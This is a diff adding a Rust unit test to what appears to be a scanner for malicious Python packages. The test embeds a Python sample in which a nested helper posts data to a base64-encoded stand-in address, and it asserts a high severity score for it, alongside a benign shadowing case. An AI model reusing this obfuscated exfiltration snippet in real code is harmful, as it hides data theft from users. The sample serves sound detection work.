@@ -331,6 +331,16 @@ mod tests {
     }
 
     #[test]
+    fn a_nested_helper_called_with_a_hidden_address_is_walked_for_that_call() {
+        // base64 of "http://198.51.100.7:5000/post"; the helper is defined inside the function.
+        let code = "import base64\nfrom requests import post\ndef decrypt(payload):\n    def send(url, data):\n        post(url, data={'k': data})\n    send(base64.b64decode('aHR0cDovLzE5OC41MS4xMDAuNzo1MDAwL3Bvc3Q=').decode(), payload)\n";
+        assert!(max_severity("p/pkg/m.py", code, "WH130") >= 0.7);
+        // A module-level function of the same name is what later module-level calls reach.
+        let shadow = "from requests import post\ndef send(url, data):\n    return len(url)\ndef f(p):\n    def send(url, data):\n        post(url, data=data)\n    return p\nsend('x', 1)\n";
+        assert!(max_severity("p/pkg/m.py", shadow, "WH130") < 0.3);
+    }
+
+    #[test]
     fn tool_uploads_are_told_from_downloads() {
         let send = |command: &str| {
             let code = format!("import os\nos.system({command:?})\n");
